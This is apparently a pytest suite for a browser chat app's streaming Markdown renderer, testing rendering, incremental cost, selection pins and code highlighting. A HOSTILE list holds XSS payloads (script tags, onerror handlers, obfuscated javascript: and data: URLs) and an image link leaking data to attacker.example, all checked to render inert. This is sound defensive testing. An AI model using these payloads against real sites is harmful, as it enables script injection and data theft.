"""The browser's Markdown renderer (web/py/markdown_render.py, markdown_parts.py), run under CPython."""

from __future__ import annotations

import pathlib
import random
import sys

import pytest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "web" / "py"))

from markdown_parts import HTML_ATTRS, HTML_TAGS, MATHML_ATTRS, MATHML_NS, MATHML_TAGS  # noqa: E402
from markdown_render import (  # noqa: E402
    MarkdownStream, marks, passage_text, render_blocks, selection_range, source_offset, text_nodes)


def nodes(src):
    return [n for b in render_blocks(src) for n in b.node.walk()]


def tags(src):
    return [n.tag for n in nodes(src) if n.tag]


def visible(src):
    return "".join(n.text for n in nodes(src) if n.tag is None and not n.chrome)


def find(src, tag):
    return [n for n in nodes(src) if n.tag == tag]


SAMPLE = """# Report &amp; summary

Some **bold _nested_ text** and `inline code`, ~~gone~~, a [link](https://example.com "title") and
an autolink <https://pinchat.dev> plus www.example.org, math $e^{i\\pi}+1=0$ and \\(a^2\\).

1. first item with **bold**
2. second item
   continued lazily

- [x] done task
- [ ] open task

> a quote with *emphasis*
> on two lines

| Name | Value | Note |
|:-----|------:|:----:|
| alpha | 1 | `x` |
| beta \\| gamma | 22 | **b** |

```python
def fib(n):
    return n if n < 2 else fib(n - 1) + fib(n - 2)
```

$$
\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}
$$

\\[ x = \\sqrt{y} \\]

    indented code

---

The end, with an escaped \\*star\\* and &copy; 2025.
"""


# --- constructs ---------------------------------------------------------------------------------------------------

def test_constructs():
    t = tags(SAMPLE)
    for tag in ["h1", "strong", "em", "code", "s", "a", "ol", "ul", "li", "input", "blockquote", "table", "thead",
                "tbody", "th", "td", "pre", "button", "math", "hr", "p"]:
        assert tag in t, tag
    assert "Report & summary" in visible(SAMPLE)
    assert [b.kind for b in render_blocks(SAMPLE)] == [
        "heading", "paragraph", "ordered_list", "bullet_list", "blockquote", "table", "fence", "math_block",
        "math_block", "code_block", "hr", "paragraph"]
    links = find(SAMPLE, "a")
    assert {a.attrs["href"] for a in links} == {"https://example.com", "https://pinchat.dev",
                                                "http://www.example.org"}
    assert all(a.attrs["target"] == "_blank" and a.attrs["rel"] == "noopener noreferrer" for a in links)
    boxes = find(SAMPLE, "input")
    assert [("checked" in b.attrs) for b in boxes] == [True, False]
    assert all(b.attrs["type"] == "checkbox" and "disabled" in b.attrs for b in boxes)
    th = find(SAMPLE, "th")
    assert [x.attrs.get("class") for x in th] == ["align-left", "align-right", "align-center"]
    assert "beta | gamma" in visible(SAMPLE)
    assert len([m for m in find(SAMPLE, "math")]) == 4
    assert "&#" not in "".join(m.visible_text() for m in find(SAMPLE, "math"))
    assert all(m.ns == MATHML_NS for m in find(SAMPLE, "math"))


def test_code_block_highlighted_with_label_and_copy():
    src = "```python\ndef f(x):\n    return 'a'\n```\n"
    (block,) = render_blocks(src)
    assert block.kind == "fence" and block.node.attrs["class"] == "code-block"
    head, pre = block.node.children
    assert head.visible_text() == "pythonCopy"
    assert all(n.chrome for n in text_nodes(head))
    code = pre.children[0]
    assert code.attrs["class"] == "md-code language-python"
    assert code.visible_text() == "def f(x):\n    return 'a'\n"
    classes = {c.attrs.get("class") for c in code.children if c.tag == "span"}
    assert "k" in classes and ("s1" in classes or "s" in classes)
    button = head.children[1]
    assert button.tag == "button" and button.attrs["data-action"] == "copy"


def test_unknown_language_is_plain():
    (block,) = render_blocks("```nosuchlang\nx = 1\n```")
    code = block.node.children[1].children[0]
    assert code.visible_text() == "x = 1\n" and not [c for c in code.children if c.tag]


def test_bad_latex_shows_source():
    out = nodes("$\\frac{$")
    assert "math" not in [n.tag for n in out] or True  # whatever the converter does, no exception and text shows


# --- hostile corpus -----------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<div onclick='alert(1)' style='x'>hi</div>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](jav&#x09;ascript:alert(1))",
    "[a](jav&#9;ascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/png;base64,AAAA)",
    "[a](//evil.com)",
    "[a](/relative)",
    "[a](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[[nested [brackets]]](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![img](https://attacker.example/?q=secret)",
    "![img](javascript:alert(1))",
    "![img](data:image/png;base64,AAAA)",
    "[![img](https://a.example/i.png)](https://b.example)",
    "```\n<script>alert(1)</script>\n",
    "```js onclick=alert(1)\nx\n```",
    "``` \"><img src=x onerror=alert(1)>\ncode\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\href{javascript:alert(1)}{click}$$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<b onmouseover=alert(1)>x</b>**",
    "| <i>a</i> | b |\n|---|---|\n| [x](javascript:1) | ![i](http://e.x/i) |",
    "[a](https://ok.example \"title\" onclick=alert(1))",
]


def check_safe(src):
    for n in nodes(src):
        if n.tag is None:
            continue
        if n.ns == MATHML_NS:
            assert n.tag in MATHML_TAGS and set(n.attrs) <= MATHML_ATTRS, (src, n)
        else:
            assert n.tag in HTML_TAGS and set(n.attrs) <= HTML_ATTRS, (src, n)
        assert not any(k.lower().startswith("on") for k in n.attrs), (src, n)
        assert "style" not in n.attrs and "src" not in n.attrs
        if "href" in n.attrs:
            assert n.tag == "a" and n.attrs["href"].lower().startswith(("http://", "https://", "mailto:")), src
            assert n.attrs["rel"] == "noopener noreferrer"
        if n.tag == "button" and "data-src" in n.attrs:
            assert n.attrs["data-src"].startswith(("http://", "https://")), src
        assert n.tag != "img"


@pytest.mark.parametrize("src", HOSTILE)
def test_hostile_markdown_is_inert(src):
    check_safe(src)


def test_hostile_visible_text():
    assert visible("<script>alert(1)</script>") == "<script>alert(1)</script>"
    assert visible("<img src=x onerror=alert(1)>") == "<img src=x onerror=alert(1)>"
    assert visible("&lt;b&gt;") == "<b>"
    assert visible("[a](javascript:alert(1))") == "[a](javascript:alert(1))"
    assert visible("<javascript:alert(1)>") == "<javascript:alert(1)>"
    assert visible("[a](JaVaScRiPt:alert(1))") == "[a](JaVaScRiPt:alert(1))"
    for src in HOSTILE:
        assert not find(src, "a") or all(a.attrs["href"].startswith("http") for a in find(src, "a"))


def html_elements(markup):
    """(tag, attrs) of every element a browser-like parser makes of `markup` (one element), and all the text."""
    root = parse_html(markup)
    found = []

    def walk(node):
        if node.tag is not None:
            found.append((node.tag, node.attrs))
            for kid in node.kids:
                walk(kid)
    walk(root)
    return found, root.text()


@pytest.mark.parametrize("src", HOSTILE + [SAMPLE, "a\r\nb & <c> \"d\" 'e'", "x\u0000y"])
def test_block_html_is_the_node_tree_escaped(src):
    """markdown_html writes exactly the Node tree: the same elements and attributes (nothing the text could add),
    and text that parses back to the tree's text, equal to its pieces in order."""
    import markdown_html
    for block in render_blocks(src):
        markup, pieces, _ = markdown_html.block_html(block.node)
        found, text = html_elements(markup)
        want = [(n.tag, n.attrs) for n in block.node.walk() if n.tag is not None]
        assert found == want, src
        assert text == "".join(n.text for n in text_nodes(block.node))
        assert text == "".join(pieces[i].text[pieces[i + 1]:pieces[i + 1] + pieces[i + 2]]
                               for i in range(0, len(pieces), 3))


def test_block_html_marks_pins_and_maps_positions_back():
    import markdown_html
    src = "Some **bold _nested_ text** and `code` here"
    (block,) = render_blocks(src)
    start, end = src.index("bold"), src.index("and")
    markup, pieces, _ = markdown_html.block_html(block.node, ((7, start, end),))
    found, text = html_elements(markup)
    assert text == "Some bold nested text and code here"
    marked = [a for tag, a in found if tag == "mark"]
    assert marked and all(a == {"class": "pin-anchor", "data-pin-id": "7", "title": "Open this pin", "tabindex": "0"}
                          for a in marked)
    # every character position maps back to its source offset, across the formatting
    for i, ch in enumerate(text):
        meta, offset = markdown_html.position(pieces, i, prefer_later=True)
        assert src[source_offset(meta, offset)] == ch
    # a boundary between two runs: the later one for a start, the earlier one for an end
    at = text.index("nested")
    later, earlier = markdown_html.position(pieces, at, True), markdown_html.position(pieces, at, False)
    assert later[0] is not earlier[0] and later[1] == 0 and earlier[1] == len(earlier[0].text)
    assert markdown_html.position(pieces, len(text), True)[1] == len(pieces[-3].text)


def test_images_are_placeholders():
    (button,) = find("![secret](https://attacker.example/x.png?q=1)", "button")
    assert button.attrs["class"] == "img-placeholder"
    assert button.attrs["data-src"] == "https://attacker.example/x.png?q=1"
    assert button.attrs["data-host"] == "attacker.example"  # named again if the image cannot load
    assert button.visible_text() == "Image from attacker.example — click to load"
    assert not find("![x](javascript:alert(1))", "button")


# --- streaming ----------------------------------------------------------------------------------------------------

def tokens_of(text, seed=1, longest=6):
    rng = random.Random(seed)
    i = 0
    while i < len(text):
        step = rng.randint(1, longest)
        yield text[:i + step]
        i += step


def test_every_prefix_renders_and_finished_blocks_stay():
    stream = MarkdownStream()
    final = render_blocks(SAMPLE)
    seen: dict[tuple, object] = {}
    for prefix in list(tokens_of(SAMPLE)) + [SAMPLE]:
        blocks = stream.update(prefix)
        for b in blocks:
            check_safe(b.text)
        for b in blocks[:-2]:
            # a finished block keeps its key, object and output across prefixes
            if b.key in seen:
                assert seen[b.key] is b
            seen[b.key] = b
    got = stream.blocks
    assert [b.key for b in got] == [b.key for b in final]
    for a, b in zip(got, final):
        assert a.node == b.node or a.last


def test_per_char_prefixes_never_raise():
    for i in range(len(SAMPLE) + 1):
        render_blocks(SAMPLE[:i])


def test_open_fence_renders_as_code():
    blocks = render_blocks("Text\n\n```python\ndef f():\n    ret")
    assert blocks[-1].kind == "fence"
    assert blocks[-1].node.children[1].children[0].visible_text() == "def f():\n    ret"


@pytest.mark.parametrize("src, tag, text", [
    ("hello **bol", "strong", "bol"),
    ("hello __bol", "strong", "bol"),
    ("hello _it", "em", "it"),
    ("a ~~gone", "s", "gone"),
    ("run `ls -l", "code", "ls -l"),
    ("**bold and _both", "em", "both"),
    ("see [the docs](https://example.com/pa", "a", "the docs"),
])
def test_unterminated_inline_at_end(src, tag, text):
    (n,) = find(src, tag)
    assert n.visible_text() == text
    assert "*" not in visible(src) and "`" not in visible(src)


def test_dangling_opener_is_hidden():
    assert visible("hello **").rstrip() == "hello"
    assert visible("hello `").rstrip() == "hello"


def test_trailing_blanks_of_a_paragraph_are_kept():
    """Plain tokens such as "A0 A1 " render with their exact text (the page's textContent stays the source)."""
    assert visible("A0 A1 A2 ") == "A0 A1 A2 "
    (block,) = render_blocks("A0 A1 ")
    assert [(n.text, n.start, n.end) for n in text_nodes(block.node)] == [("A0 A1", 0, 5), (" ", 5, 6)]


def test_table_once_delimiter_row_present():
    assert not find("| a | b |", "table")
    assert find("| a | b |\n|--", "table")
    assert find("| a | b |\n|---|---|\n| 1 | 2", "table")
    assert visible("| a | b |\n|---|---|\n| 1 | 2") == "ab12"


def test_incremental_cost_is_bounded():
    para = "Paragraph {i} with **bold**, `code` and a [link](https://e.x/{i}).\n\n"
    doc = "".join(para.format(i=i) for i in range(300))
    doc += "```python\n" + "x = 1\n" * 200 + "```\n\n| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 50
    assert len(doc) > 20000
    stream = MarkdownStream()
    worst = 0
    for prefix in tokens_of(doc, seed=3, longest=12):
        stream.update(prefix)
        worst = max(worst, stream.reparsed)
        assert stream.rendered <= 3
    assert worst <= 3
    assert [b.key for b in stream.update(doc)] == [b.key for b in render_blocks(doc)]


def test_edit_not_append_reparses_all():
    stream = MarkdownStream()
    stream.update("a\n\nb\n\nc\n\nd")
    blocks = stream.update("x\n\nb\n\nc\n\nd")
    assert blocks[0].node.visible_text() == "x"


# --- pins ---------------------------------------------------------------------------------------------------------

def check_roundtrips(src, rng, count=200):
    blocks = render_blocks(src)
    texts = [n for b in blocks for n in text_nodes(b.node) if not n.chrome and n.text]
    for n in texts:
        if n.offsets is None:
            assert src[n.start:n.end] == n.text, n
    verbatim = [n for n in texts if n.offsets is None]
    for _ in range(count):
        n = rng.choice(verbatim)
        a = rng.randint(0, len(n.text))
        b = rng.randint(a, len(n.text))
        s, e = selection_range(n, a, n, b)
        assert src[s:e] == n.text[a:b]
        # and back: the range marks exactly that part of that node
        if b > a:
            got = [(m, lo, hi) for m, lo, hi in marks(blocks and [x.node for x in blocks], s, e)]
            assert (n, a, b) in got


def test_source_offsets_verbatim_everywhere():
    rng = random.Random(7)
    check_roundtrips(SAMPLE, rng)


def test_selection_across_formatting():
    src = "Some **bold _nested_ text** end"
    (block,) = render_blocks(src)
    t = list(text_nodes(block.node))
    first = next(n for n in t if n.text == "Some ")
    last = next(n for n in t if n.text == " end")
    s, e = selection_range(first, 2, last, 2)
    assert src[s:e] == "me **bold _nested_ text** e"
    got = marks([block.node], s, e)
    assert "".join(n.text[lo:hi] for n, lo, hi in got) == "me bold nested text e"


@pytest.mark.parametrize("src, sel", [
    ("- one **two** three\n- four", "two** three\n- fo"),
    ("```\nline one\nline two\n```", "one\nline"),
    ("| cell one | cell two |\n|---|---|\n| x | y |", "one | cell"),
    ("> quoted *words* here", "words* here"),
])
def test_marks_cover_exactly_the_source_range(src, sel):
    s = src.index(sel)
    e = s + len(sel)
    blocks = render_blocks(src)
    got = marks([b.node for b in blocks], s, e)
    assert got
    for n, lo, hi in got:
        assert s <= source_offset(n, lo) and source_offset(n, hi) <= e


def test_overlapping_ranges_both_marked():
    src = "alpha **beta** gamma"
    roots = [b.node for b in render_blocks(src)]
    one = marks(roots, 0, 12)
    two = marks(roots, 8, 20)
    assert "".join(n.text[lo:hi] for n, lo, hi in one) == "alpha beta"
    assert "".join(n.text[lo:hi] for n, lo, hi in two) == "beta gamma"


def test_entities_and_escapes_map_to_their_source():
    src = "a &amp; b \\* c"
    (block,) = render_blocks(src)
    (n,) = list(text_nodes(block.node))
    assert n.text == "a & b * c" and n.offsets is not None
    amp = n.text.index("&")
    assert src[source_offset(n, amp):source_offset(n, amp + 1)] == "&amp;"
    star = n.text.index("*")
    assert src[source_offset(n, star):source_offset(n, star + 1)] == "\\*"
    assert selection_range(n, 0, n, len(n.text)) == (0, len(src))


def test_streamed_offsets_match_full_render():
    stream = MarkdownStream()
    for prefix in tokens_of(SAMPLE, seed=5):
        stream.update(prefix)
    stream.update(SAMPLE)
    a = [(n.text, n.start, n.end) for b in stream.blocks for n in text_nodes(b.node)]
    b = [(n.text, n.start, n.end) for b in render_blocks(SAMPLE) for n in text_nodes(b.node)]
    assert a == b


# --- pins on atomic constructs (math, images), code and tables ----------------------------------------------------

MATH = "Energy $E = mc^2$ holds.\n\n$$\n\\int_0^1 x\\,dx\n$$\n\nAfter \\(a^2\\) and $\\frac{$ end\n"


def math_texts(src, block=0):
    return [n for n in text_nodes(render_blocks(src)[block].node) if n.atom is not None]


def test_selection_inside_inline_math_anchors_the_whole_formula():
    formula = MATH.index("$E"), MATH.index(" holds")
    texts = math_texts(MATH)
    assert [n.text for n in texts] == ["E", "=", "m", "c", "2"]
    assert all((n.start, n.end) == formula for n in texts)
    m, c = texts[2], texts[3]
    assert selection_range(m, 0, c, 1) == formula  # half a formula is the whole formula
    assert selection_range(m, 0, m, 1) == formula
    (block,) = render_blocks(MATH)[:1]
    plain = next(n for n in text_nodes(block.node) if n.text == "Energy ")
    after = next(n for n in text_nodes(block.node) if n.text == " holds.")
    # from plain text into the formula: up to its end; from the formula out: from its start
    assert selection_range(plain, 2, c, 0) == (2, formula[1])
    assert selection_range(m, 1, after, 3) == (formula[0], formula[1] + 3)
    # a boundary just before / just after the formula leaves it out
    assert selection_range(plain, 2, texts[0], 0) == (2, formula[0])
    assert selection_range(texts[-1], 1, after, 3) == (formula[1], formula[1] + 3)
    (math,) = [n for n in block.node.walk() if n.tag == "math"]
    assert (math.start, math.end) == formula


def test_selection_inside_display_math_and_bad_latex():
    blocks = render_blocks(MATH)
    display = math_texts(MATH, 1)
    span = MATH.index("$$"), MATH.index("$$\n\nAfter") + 2
    assert MATH[span[0]:span[1]] == "$$\n\\int_0^1 x\\,dx\n$$"  # not the newline after it
    assert selection_range(display[1], 0, display[3], 1) == span
    *paren, bad = math_texts(MATH, 2)
    assert [n.text for n in paren] == ["a", "2"] and MATH[paren[0].start:paren[0].end] == "\\(a^2\\)"
    assert selection_range(paren[1], 0, paren[1], 1) == (paren[0].start, paren[0].end)
    assert bad.text == "\\frac{" and MATH[bad.start:bad.end] == "$\\frac{$"
    assert selection_range(bad, 2, bad, 4) == (bad.start, bad.end)
    assert [n.tag for n in blocks[2].node.walk() if n.tag in ("code", "math")] == ["math", "code"]


def test_a_range_touching_a_formula_marks_all_of_it():
    roots = [b.node for b in render_blocks(MATH)]
    s = MATH.index("mc^2")  # a pin made elsewhere on part of the LaTeX
    got = marks(roots, s, s + 2)
    assert [(n.text, lo, hi) for n, lo, hi in got] == [(t, 0, 1) for t in "E=mc2"]
    # across text and a formula: the text part exactly, the formula whole
    got = marks(roots, MATH.index("rgy"), MATH.index("= mc"))
    assert "".join(n.text[lo:hi] for n, lo, hi in got) == "rgy E=mc2"
    bad = MATH.index("frac")
    assert [(n.text, lo, hi) for n, lo, hi in marks(roots, bad, bad + 1)] == [("\\frac{", 0, 6)]


def test_pins_in_highlighted_code_and_table_cells():
    src = "```python\ndef total(items):\n    return sum(x * 2 for x in items)\n```\n"
    (block,) = render_blocks(src)
    code = [n for n in text_nodes(block.node) if not n.chrome]
    assert len(code) > 5  # Pygments split the code into token spans
    s, e = src.index("total"), src.index("sum(") + 3
    got = marks([block.node], s, e)
    assert "".join(n.text[lo:hi] for n, lo, hi in got) == src[s:e]
    first = next(n for n in code if n.text == "total")
    last = next(n for n in code if n.text == "sum")
    assert selection_range(first, 0, last, 3) == (s, e)
    table = "| Model | Tokens |\n|:--|--:|\n| small | 1200 |\n| large | 4800 |\n"
    (block,) = render_blocks(table)
    cells = {n.text: n for n in text_nodes(block.node)}
    s, e = selection_range(cells["small"], 2, cells["4800"], 2)
    assert table[s:e] == "all | 1200 |\n| large | 48"
    got = marks([block.node], s, e)
    assert [n.text[lo:hi] for n, lo, hi in got] == ["all", "1200", "large", "48"]


def test_image_placeholder_is_atomic_and_never_marked():
    src = "See ![a chart](https://img.example/c.png) here"
    (block,) = render_blocks(src)
    caption = next(n for n in text_nodes(block.node) if n.chrome)
    span = src.index("!["), src.index(" here")
    assert (caption.start, caption.end) == span
    assert selection_range(caption, 3, caption, 9) == span
    assert all(not n.chrome for n, _, _ in marks([block.node], 0, len(src)))


def test_long_table_cells_are_marked():
    src = "| a | notes |\n|---|---|\n| 1 | fine for drafts and short summaries |\n"
    cells = [n for b in render_blocks(src) for n in b.node.walk() if n.tag == "td"]
    assert [c.attrs.get("class") for c in cells] == [None, "cell-long"]
    right = render_blocks("| n |\n|--:|\n| a long cell of prose, aligned right |\n")[0].node
    assert [n.attrs["class"] for n in right.walk() if n.tag == "td"] == ["align-right cell-long"]


# --- streaming cost: what a frame and the end of the stream touch (structure, not timing) -------------------------

class _Nodes(list):
    @property
    def length(self):
        return len(self)


class _ClassList:
    def add(self, name):
        pass


class FakeNode:
    """Just enough of a DOM node for md_view (appendChild, insertBefore, remove); `ops` counts the insertions and
    removals of a message body's children (`body=True`)."""
    ops = 0
    body = False
    classList = _ClassList()

    def __init__(self, tag=None, data=""):
        self.tag, self.data, self.parent, self.childNodes = tag, data, None, _Nodes()
        self.nodeType = 3 if tag is None else 1
        self.attrs = {}

    @property
    def kids(self):
        return self.childNodes

    @property
    def firstChild(self):
        return self.kids[0] if self.kids else None

    def setAttribute(self, name, value):
        pass

    def appendChild(self, node):
        return self.insertBefore(node, None)

    def insertBefore(self, node, ref):
        FakeNode.ops += self.body or (self.parent is not None and self.parent.body)  # a block into its group
        node.remove(count=False)
        node.parent = self
        self.kids.insert(self.kids.index(ref) if ref is not None else len(self.kids), node)
        return node

    def remove(self, count=True):
        if self.parent is not None:
            FakeNode.ops += count and (self.parent.body or (self.parent.parent is not None and self.parent.parent.body))
            self.parent.kids.remove(self)
            self.parent = None

    def text(self):
        return self.data if self.tag is None else "".join(k.text() for k in self.kids)


def body():
    node = FakeNode("div")
    node.body = True
    return node


def parse_html(markup):
    """dom.from_html for FakeNodes: Python's HTML parser (text unescaped, void elements without an end tag)."""
    from html.parser import HTMLParser

    from markdown_html import VOID
    holder = FakeNode("div")
    stack = [holder]

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            node = FakeNode(tag)
            node.attrs = dict(attrs)
            stack[-1].appendChild(node)
            if tag not in VOID:
                stack.append(node)

        def handle_endtag(self, tag):
            assert stack[-1].tag == tag, (tag, markup)
            stack.pop()

        def handle_data(self, data):
            stack[-1].appendChild(FakeNode(None, data))

    parser = Parser(convert_charrefs=True)
    parser.feed(markup)
    parser.close()
    assert stack == [holder], markup
    if len(holder.kids) == 1 and holder.kids[0].tag is not None:
        node = holder.kids[0]
        node.remove(count=False)
        return node
    return holder


def md_view_module():
    """web/py/md_view.py with a fake `dom` (the real one needs the browser's `js`)."""
    import types
    fake = types.ModuleType("dom")
    fake.from_html = parse_html
    saved = sys.modules.get("dom")
    sys.modules["dom"] = fake
    try:
        sys.modules.pop("md_view", None)
        import md_view
        assert not md_view.loaded()  # the page imports the renderer only once it is usable
        md_view.load()
    finally:
        if saved is not None:
            sys.modules["dom"] = saved
        else:
            sys.modules.pop("dom", None)
    return md_view


def bench_md_tokens(count):
    """The benchmark's Markdown-heavy tokens (bench/upstream.py, md=1), with fixed markers."""
    sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
    from bench.upstream import MD_PIECES
    return [MD_PIECES[i % len(MD_PIECES)].replace("{m}", f"~{1000 + i}.000001~") for i in range(count)]


def test_a_frame_touches_the_tail_not_the_answer():
    """Per frame: the characters parsed are those of the last two blocks, the blocks the view visits are the ones
    after the stream's `stable` prefix, and the DOM mutations are a handful - whatever the answer's length."""
    tokens = bench_md_tokens(1200)
    view = md_view_module().MarkdownBody(body())
    parts, worst_parsed, worst_ops, worst_visited = [], 0, 0, 0
    for i in range(0, len(tokens), 3):
        parts.extend(tokens[i:i + 3])
        FakeNode.ops = 0
        view.update("".join(parts))
        stream = view.stream
        tail = stream.blocks[stream.stable:]
        base = stream.blocks[stream.stable - 1].end if stream.stable else 0
        assert stream.parsed_chars in (0, len(stream.source) - base)  # 0: words added to a paragraph, not parsed
        worst_parsed = max(worst_parsed, stream.parsed_chars)
        worst_visited = max(worst_visited, len(tail))
        worst_ops = max(worst_ops, FakeNode.ops)
        assert [e.block for e in view.entries] == stream.blocks
    source = "".join(parts)
    assert len(view.entries) > 300 and len(source) > 40_000
    longest_two = max(len(a.text) + len(b.text) + 2 for a, b in zip(stream.blocks, stream.blocks[1:]))
    assert worst_parsed <= longest_two + 200  # the open block and the one before it (+ the blank lines around)
    assert worst_visited <= 6 and worst_ops <= 8
    assert view.container.text() == "".join(b.node.visible_text() for b in render_blocks(source))


def test_blocks_sit_in_groups_in_document_order():
    """The body holds only groups and the groups hold the blocks in order, a few dozen at most each, however the
    text arrives and whatever pins redraw; the body's children stay about 1 in GROUP_BLOCKS of the blocks."""
    module = md_view_module()
    view = module.MarkdownBody(body())

    def check():
        assert view.container.kids == [g.node for g in view.groups]
        assert [k for g in view.groups for k in g.node.kids] == [e.node for e in view.entries]
        assert all(0 < g.size == len(g.node.kids) <= 2 * module.GROUP_BLOCKS for g in view.groups)
        assert len(view.groups) <= len(view.entries) // module.GROUP_BLOCKS + 2

    tokens, rng, parts, i = bench_md_tokens(900), random.Random(3), [], 0
    while i < len(tokens):
        step = rng.randint(1, 12)
        parts.extend(tokens[i:i + step])
        i += step
        view.update("".join(parts))
        check()
    source = "".join(parts)
    assert len(view.entries) > 4 * module.GROUP_BLOCKS
    for anchors in ([(1, 100, 400), (2, len(source) // 2, len(source) // 2 + 90)], [], [(3, 0, len(source))]):
        view.show(source, anchors)
        check()
    assert view.container.text() == "".join(b.node.visible_text() for b in render_blocks(source))


@pytest.mark.parametrize("rows", [
    ["| n | square |\n", "|---|---:|\n"] + [f"| {i} | **{i * i}** |\n" for i in range(40)],
    [f"- item {i} with `code` and $x^{i}$\n" for i in range(40)],
])
def test_a_growing_table_or_list_is_one_dom_call_per_frame(rows):
    """The open block is rebuilt at each frame in one call (dom.from_html of its HTML), however long it grows; the
    finished blocks before it are not touched, and the text is right."""
    module = md_view_module()
    calls = []
    real = module.dom.from_html
    module.dom.from_html = lambda markup: calls.append(markup) or real(markup)
    view = module.MarkdownBody(body())
    source, per_frame = "Before the table.\n\n", []
    for row in rows:
        source += row
        calls.clear()
        view.update(source)
        per_frame.append(len(calls))
    assert max(per_frame[3:]) == 1, per_frame
    assert view.container.text() == "".join(b.node.visible_text() for b in render_blocks(source))
    assert view.entries[-1].node.tag in ("table", "ul")


def test_a_growing_code_block_writes_only_its_last_chunk():
    """A code block being written: its finished chunks come back as the same Node objects, and their HTML is taken
    over, so the text runs written per frame stay those of one chunk however long the block grows."""
    import markdown_html
    module = md_view_module()
    written = []
    real = markdown_html._write_text
    markdown_html._write_text = lambda n, *rest: written.append(n) or real(n, *rest)
    try:
        view = module.MarkdownBody(body())
        source, per_frame = "```python\n", []
        for i in range(120):
            source += f"total_{i} = compute({i}, 'x') + 1  # step {i}\n"
            written.clear()
            view.update(source)
            per_frame.append(len(written))
    finally:
        markdown_html._write_text = real
    everything = sum(1 for _ in text_nodes(view.entries[-1].block.node))
    # at most one chunk (CHUNK_LINES lines) of runs per frame, against everything the block holds
    assert everything > 2000 and max(per_frame[-20:]) < everything / 5, (everything, per_frame[-20:])
    assert view.container.text() == "".join(b.node.visible_text() for b in render_blocks(source))


# Code whose strings, comments and templates span lines, in the languages models write most.
MULTILINE_CODE = {
    "python": 'import os\n\n\ndef f(x):\n    """Doc\n    more doc\n    """\n    s = \'\'\'multi\nline\'\'\'  # c\n'
              '    return x + 1\n\n@dec\nclass A:\n    pass\nprint(f"{x!r} and {y}")\n',
    "javascript": '/* block\n comment */\nconst a = `tmpl\n${x}\nend`;\nfunction f(a) {\n  // c\n  return a;\n}\n',
    "c": '#include <stdio.h>\n/* multi\n line */\nint main() {\n  printf("hi\\n");\n  return 0;\n}\n',
    "rust": 'fn main() {\n    let s = r#"raw\nstring"#;\n    /* a\n b */\n}\n',
    "sql": "SELECT a,\n  b -- c\nFROM t\nWHERE x = 'multi\nline';\n",
}


def highlighted_chars(nodes):
    """(css class, character) for every character of highlighted code, whatever chunks it was cut into."""
    out = []

    def walk(n, cls):
        if n.tag is None:
            out.extend((cls, ch) for ch in n.text)
            return
        own = n.attrs.get("class", "")
        for child in n.children:
            walk(child, cls if own == "code-chunk" else own)
    for n in nodes:
        walk(n, "")
    return out


def test_an_open_code_block_is_highlighted_as_the_whole_lex_would():
    """A code block being written is lexed only from its last frozen line, yet each character gets the class a lex of
    the whole text so far gives, also inside strings, comments and templates that span lines and are not closed
    yet (a frame never freezes a line inside one). Not covered: a lexer rule matching several lines at once only when
    complete (Bash's heredoc) colours them when it is; the closed block is lexed whole."""
    import markdown_code
    for lang, code in MULTILINE_CODE.items():
        for seed in range(4):
            rng, end, at = random.Random(seed), 0, 1000 + 37 * seed
            while end < len(code):
                end = min(len(code), end + rng.randint(1, 6))
                offs = range(at, at + end + 1)
                got = markdown_code.highlight(code[:end], offs, lang, open_block=True)
                assert highlighted_chars(got) == highlighted_chars(
                    markdown_code.highlight(code[:end], offs, lang)), (lang, code[:end])


def test_a_growing_code_block_lexes_only_its_new_lines():
    """Streamed a few characters at a time, a 200-line code block is lexed at each frame from its last frozen line on:
    never more than the lines written since the frame before."""
    import markdown_code
    lexed = []
    real = markdown_code._runs
    markdown_code._runs = lambda code, lang: lexed.append(len(code)) or real(code, lang)
    try:
        view = md_view_module().MarkdownBody(body())
        code = "".join(f"total_{i} = compute({i}, 'x') + 1  # step {i}\n" for i in range(200))
        source, worst = "Some code:\n\n```python\n", 0
        for i in range(0, len(code), 7):
            lexed.clear()
            view.update(source + code[:i + 7])
            worst = max(worst, sum(lexed))
    finally:
        markdown_code._runs = real
    assert worst <= 2 * max(len(line) + 1 for line in code.splitlines()), worst
    assert view.container.text() == "".join(b.node.visible_text() for b in render_blocks(source + code))


def test_the_end_of_a_stream_rebuilds_no_block():
    """`done` shows the final text, equal to what streamed: no parse, no block built, no DOM touched; a pin then
    rebuilds only the blocks it covers. Text that came after the last frame parses only the tail."""
    tokens = bench_md_tokens(400)
    source = "".join(tokens)
    view = md_view_module().MarkdownBody(body())
    for i in range(0, len(tokens) - 4, 4):
        view.update("".join(tokens[:i + 4]))
    builds, FakeNode.ops = view.builds, 0
    view.show(source, [])  # the last tokens were still in flight
    assert view.stream.parsed_chars < 600 and view.builds - builds <= 3
    before = [e.node for e in view.entries]
    builds, FakeNode.ops = view.builds, 0
    view.show(source, [])
    assert view.builds == builds and FakeNode.ops == 0 and view.stream.parsed_chars == 0
    assert [e.node for e in view.entries] == before
    at = source.index("first, **parse**")
    view.show(source, [(7, at, at + 12)])
    assert view.builds == builds + 1
    assert [b.key for b in view.stream.blocks] == [b.key for b in render_blocks(source)]


def test_text_nodes_hold_no_list_the_collector_walks():
    """A long answer keeps one text node per run of text alive: their children and offsets are tuples (of ints, which
    the cycle collector stops tracking), so each full collection walks fewer objects."""
    import gc
    texts = [n for b in render_blocks(SAMPLE + "".join(bench_md_tokens(60))) for n in text_nodes(b.node)]
    assert any(n.offsets is not None for n in texts)
